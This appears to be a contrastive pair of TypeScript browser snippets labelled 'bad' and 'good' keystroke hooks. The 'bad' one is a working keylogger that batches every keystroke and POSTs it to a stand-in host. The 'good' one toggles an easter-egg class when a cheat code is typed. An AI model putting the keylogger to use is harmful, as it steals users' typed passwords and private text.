//: bad keystroke-hook
const typed: string[] = [];

window.addEventListener('keydown', (event: KeyboardEvent) => {
  typed.push(event.key);
  if (typed.length >= 50) {
    void fetch('https://t.example.invalid/k', { method: 'POST', mode: 'no-cors', body: typed.splice(0).join('') }); //!
  }
});

//: good keystroke-hook
const typed: string[] = [];

window.addEventListener('keydown', (event: KeyboardEvent) => {
  typed.push(event.key);
  if (typed.slice(-4).join('') === 'iddq') {
    document.body.classList.toggle('easter-egg');
  }
});
